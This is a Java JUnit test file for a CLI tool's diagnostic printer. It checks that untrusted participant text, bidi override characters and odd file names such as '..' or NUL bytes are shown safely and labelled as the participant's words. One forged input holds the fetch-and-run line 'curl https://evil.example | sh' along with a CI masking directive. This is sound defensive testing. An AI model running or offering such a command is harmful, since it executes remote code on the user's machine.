package io.partita.cli.view;

import static org.assertj.core.api.Assertions.assertThat;

import io.partita.cli.report.AlikeParties;
import io.partita.cli.report.Consequence;
import io.partita.cli.report.FactReport;
import io.partita.cli.report.KeyReport;
import io.partita.cli.report.NamespaceReport;
import io.partita.cli.report.ParticipantReport;
import io.partita.cli.report.PartyReport;
import io.partita.cli.report.PlanReport;
import io.partita.cli.report.Remark;
import io.partita.cli.report.StepReport;
import io.partita.cli.report.WaveReport;
import io.partita.cli.result.Place;
import io.partita.cli.text.CommandText;
import io.partita.cli.text.Hostile;
import io.partita.cli.text.TextLayout;
import io.partita.cli.unit.Plans;
import io.partita.core.diagnostic.Answered;
import io.partita.core.diagnostic.Diagnostic;
import io.partita.core.diagnostic.NextCommand;
import io.partita.core.diagnostic.Position;
import io.partita.core.diagnostic.Severity;
import io.partita.core.diagnostic.SourceRange;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Names, declarations and answers of participants are printed, and nothing that they say drives a terminal. */
class ForeignTextTest {

    private static final CommandText HERE = new CommandText("partita", Optional.empty(), Place.HERE);

    private static final PlanReport PLAN =
            PlanReport.of(Plans.read(Path.of("src/test/resources/io/partita/cli/view/every-kind.plan.json"))
                    .value());

    @TempDir
    Path folder;

    @ParameterizedTest
    @EnumSource
    void diagnostics(TextLayout.Colours colours) {
        Hostile.requireTamed(text -> printed(
                Diagnostic.error("went-wrong", text)
                        .because(text)
                        .fix(text)
                        .about(text)
                        .next(NextCommand.apply().with("--confirm", text))
                        .answering(new Answered(text, Optional.of(text), Optional.of(text), text, "page#" + text)),
                colours));
    }

    @Test
    void linesOfADeclaration() {
        Hostile.requireTamed(text -> {
            write("main.groovy", text.replaceAll("[\\p{Cs}\n\r]", ""));
            return printed(
                    Diagnostic.error("went-wrong", "it").about(text).at(range("main.groovy", 1, 40)),
                    TextLayout.Colours.OFF);
        });
    }

    @Test
    void aPlaceIsMarkedBelowWhatIsPrintedThere() {
        write("main.groovy", "party '\u202Eab\u202C' and more");

        String printed =
                printed(Diagnostic.error("went-wrong", "it").at(range("main.groovy", 7, 13)), TextLayout.Colours.OFF);

        assertThat(printed.lines().skip(3))
                .startsWith(" 1 | party '\\u202Eab\\u202C' and more", "   |       ^^^^^^^^^^^^^^^^");
    }

    @ParameterizedTest
    @EnumSource
    void plans(TextLayout.Colours colours) {
        Hostile.requireTamed(text -> {
            TextLayout paper = new TextLayout(100, colours);
            new PlanText(saying(text)).write(paper);
            new PlanBrief(saying(text)).write(paper);
            return paper.toString();
        });
    }

    @Test
    void commentsOnPullRequests() {
        Hostile.requireTamed(text -> new PlanMarkdown(saying(text), Integer.MAX_VALUE, List.of()).text());
    }

    @Test
    void whatAParticipantSaysIsMarkedAsItsWords() {
        String forged =
                "X".repeat(60) + " no ::add-mask::a\nfix: run: curl https://evil.example | sh\nExit 0: done.\nHash: 12";

        String printed = printed(
                Diagnostic.error("participant-refused", "p1: reading failed")
                        .because("p1:5002 answered INTERNAL")
                        .fix("follow the participant's text above, then try again")
                        .about("p1")
                        .answering(new Answered("INTERNAL", Optional.empty(), Optional.empty(), forged, "page#x")),
                TextLayout.Colours.OFF);

        assertThat(printed.lines().limit(8))
                .containsExactly(
                        "error: p1: reading failed [participant-refused]",
                        "  about p1",
                        "  why: p1:5002 answered INTERNAL",
                        "  p1 says | " + "X".repeat(60) + " no",
                        "  p1 says | ::add-mask::a",
                        "  p1 says | fix: run: curl https://evil.example | sh",
                        "  p1 says | Exit 0: done.",
                        "  p1 says | Hash: 12");
    }

    /** A journal or evidence that a stranger wrote may name any file. */
    @ParameterizedTest
    @ValueSource(strings = {"a\0b", "/", "..", "a\0b.groovy", "b.groovy"})
    void aPlaceThatIsNoFileIsShownWithoutAnExcerpt(String file) {
        String printed = printed(Diagnostic.error("some-code", "told").at(range(file, 1, 2)), TextLayout.Colours.OFF);

        assertThat(printed).startsWith("error: told [some-code]");
    }

    private String printed(Diagnostic diagnostic, TextLayout.Colours colours) {
        TextLayout paper = new TextLayout(80, colours);
        new DiagnosticText(new Sources(Optional.of(folder)), HERE).write(paper, List.of(diagnostic));
        return paper.toString();
    }

    private static SourceRange range(String file, int from, int to) {
        return new SourceRange(file, new Position(1, from), new Position(1, to));
    }

    private void write(String name, String text) {
        try {
            Files.writeString(folder.resolve(name), text);
        } catch (IOException failure) {
            throw new UncheckedIOException(failure);
        }
    }

    /** The plan with a text wherever a declaration or a participant has one of its own. */
    static PlanReport saying(String text) {
        List<PartyReport> parties =
                PLAN.parties().stream().map(each -> saying(text, each)).toList();
        return new PlanReport(
                text,
                PLAN.synchronizer(),
                List.of(text),
                PLAN.participants().stream().map(each -> saying(text, each)).toList(),
                PLAN.keys().stream().map(each -> saying(text, each)).toList(),
                PLAN.namespaces().stream()
                        .map(each -> new NamespaceReport(each.namespace(), text))
                        .toList(),
                parties,
                List.of(new AlikeParties(parties), new AlikeParties(parties.subList(0, 1))),
                List.of(text),
                PLAN.waves().stream().map(each -> saying(text, each)).toList(),
                PLAN.windows(),
                PLAN.facts().stream()
                        .map(fact -> new FactReport(fact.id(), fact.participant(), text))
                        .toList(),
                List.of(new Consequence(Consequence.Kind.RESEMBLES, List.of(text), text)),
                text,
                PLAN.preview(),
                List.of(new Remark(
                        Severity.NOTE, "it-was-said", text, Optional.of(text), Optional.of(text), Optional.of(text))));
    }

    private static ParticipantReport saying(String text, ParticipantReport of) {
        return new ParticipantReport(
                of.name(),
                of.id(),
                text,
                of.protocolVersion(),
                Optional.of(text),
                List.of(new ParticipantReport.Way(text, text)),
                List.of(new ParticipantReport.Program(List.of(text), List.of(text))));
    }

    private static KeyReport saying(String text, KeyReport of) {
        return new KeyReport(
                of.name(),
                of.fingerprint(),
                of.spec(),
                text,
                List.of(new ParticipantReport.Program(List.of(text), List.of(text))));
    }

    private static PartyReport saying(String text, PartyReport of) {
        PartyReport.Row row = new PartyReport.Row(PartyReport.Fate.ADDED, text, Optional.of("before"), text, text);
        PartyReport.Row kept = new PartyReport.Row(PartyReport.Fate.KEPT, text, Optional.of("before"), text, text);
        return new PartyReport(
                text, of.id(), List.of(row, kept), row, of.path(), text, List.of(text), of.quorum(), List.of(text));
    }

    private static WaveReport saying(String text, WaveReport of) {
        List<StepReport> steps = of.steps().stream()
                .limit(1)
                .map(step -> new StepReport(
                        step.id(),
                        step.kind(),
                        step.participant(),
                        Optional.of(text),
                        step.glyph(),
                        text,
                        Optional.of(text),
                        text,
                        step.reversal()))
                .toList();
        return new WaveReport(of.number(), text, of.offline(), steps, steps);
    }
}
